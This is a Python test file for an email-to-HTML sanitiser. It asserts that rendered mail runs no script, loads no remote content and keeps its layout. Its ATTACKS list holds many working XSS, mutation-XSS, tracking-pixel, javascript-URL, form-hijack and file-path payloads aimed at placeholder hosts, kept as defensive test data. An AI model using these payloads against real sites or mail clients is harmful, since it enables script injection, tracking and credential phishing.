"""A mail as its writer saw it runs nothing, loads nothing, and shows what was in it (T09, T10, T11)."""

from email.message import EmailMessage
from html.parser import HTMLParser

import pytest

from dashboard.look import PICTURES, look

PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
LOADS = {"src", "href", "background", "action", "formaction", "poster", "data", "srcset", "ping", "cite", "style"}
ATTACKS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="https://track.example/open.gif" width=1>
<img src=//track.example/open.gif>
<img srcset="https://track.example/a 1x">
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
<img src="data:text/html,<script>alert(1)</script>">
<img src="cid:../../etc/passwd">
<img src="file:///etc/passwd">
<img lowsrc=https://track.example/a dynsrc=https://track.example/b>
<input type=image src=https://track.example/a>
<body background="https://track.example/a" onload=alert(1)>
<table background="https://track.example/a"><tr><td background="https://track.example/b">x</table>
<div style="background:url(https://track.example/a)">x</div>
<style>@import "https://track.example/a.css"; p{background:url(//track.example)}</style>
<link rel=stylesheet href=https://track.example/a.css>
<link rel=prefetch href=https://track.example/a><link rel=dns-prefetch href=//track.example>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href=https://evil.example/>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt&colon;alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="vbscript:x">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example">x</a>
<a href="/tickets/1/status">x</a>
<a href="http://plain.example/">x</a>
<a ping="https://track.example/a" href="https://ok.example/">x</a>
<svg onload=alert(1)><image href="https://track.example/a"/><use href="https://evil.example/#x"/></svg>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src=https://evil.example></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=https://evil.example></object><embed src=https://evil.example><applet code=x></applet>
<video src=https://track.example/a poster=https://track.example/b></video>
<audio src=https://track.example/a></audio><source src=https://track.example/a><track src=https://track.example/a>
<form action=https://evil.example><input name=password><button formaction=https://evil.example>x</button></form>
<textarea><img src=x onerror=alert(1)></textarea>
<title></title><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--[if mso]><img src=https://track.example/a><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<template><img src=x onerror=alert(1)></template>
<p id=session class=alert name=x onclick=alert(1) onmouseover=alert(1) style=x>x</p>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<blockquote cite="https://track.example/">x</blockquote>
<q cite="javascript:alert(1)">x</q>
</body></html><script>alert(1)</script>
<plaintext><script>alert(1)</script>
<a href='https://ok.example/" onmouseover="alert(1)'>x</a>
<td bgcolor="url(https://track.example/a)">x
{{ 7 * 7 }}{% raw %}{says}{body}
""".strip().split("\n")


class _Seen(HTMLParser):
    """What of a page a browser would act upon."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.loads: list[tuple[str, str]] = []
        self.handlers: list[str] = []
        self.feed(page.partition("</head>")[2])

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.loads += [(name, value or "") for name, value in attrs if name in LOADS]
        self.handlers += [name for name, _ in attrs if name.startswith("on") or name in {"id", "name"}]


def page_of(html: str, picture: bytes = b"", cid: str = "pic@mail") -> str:
    made = EmailMessage()
    made["From"], made["Subject"] = "ada@client.example", "The page"
    made.set_content("As plain text.")
    made.add_alternative(html, subtype="html")
    if picture:
        made.get_payload()[1].add_related(picture, "image", "png", cid=f"<{cid}>")  # type: ignore[union-attr, index]
    return look(made.as_bytes())


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_mail_runs_or_loads(attack: str) -> None:
    page = page_of(f"<p>Before</p>{attack}<p>After</p>")
    seen = _Seen(page)
    assert not seen.tags & {
        "script",
        "style",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "meta",
        "base",
    }
    assert not seen.tags & {"link", "video", "audio", "source", "template", "textarea", "button", "details", "marquee"}
    assert not seen.handlers
    shown = ("https://ok.example/", "http://plain.example/")  # and led to by nothing
    assert all(name == "href" and value.startswith(shown) for name, value in seen.loads), seen.loads
    assert "Before" in page


def test_the_order_of_a_mails_words_tables_and_lists_stays() -> None:
    page = page_of(
        '<h1>Hi</h1><table width=600><tr><td align="right" colspan=2>1</td></tr></table><ol start=3><li>x</ol>'
    )
    assert '<td align="right" colspan="2">1</td>' in page
    assert '<ol start="3"><li>x</li></ol>' in page


@pytest.mark.parametrize("source", ["cid:pic@mail", "CID:pic@mail", "cid:pic%40mail"])
def test_a_picture_that_came_in_the_mail_is_shown(source: str) -> None:
    page = page_of(f'<img src="{source}" alt="the screen">', PNG)
    assert 'src="data:image/png;base64,iVBORw0KGgo' in page
    assert "not shown" not in page


@pytest.mark.parametrize("picture", [b"<svg onload=alert(1)>", b"<html>", b"", PNG + bytes(PICTURES)])
def test_what_is_no_picture_or_is_too_large_is_not_shown_and_said(picture: bytes) -> None:
    page = page_of('<img src="cid:pic@mail"><img src="https://track.example/a.gif">', picture or b"x")
    assert "data:" not in page
    assert "2 pictures are not shown" in page


def test_a_mail_of_plain_text_is_shown_as_it_is() -> None:
    assert "<pre>1 &lt; 2 &amp; &lt;script&gt;</pre>" in look(b"Subject: x\r\n\r\n1 < 2 & <script>\r\n")


@pytest.mark.parametrize("raw", [b"", b"\xff\x00", b"Content-Type: text/html\r\n\r\n" + b"<div>" * 5_000])
def test_any_bytes_give_a_page(raw: bytes) -> None:
    assert look(raw).endswith("</body></html>")
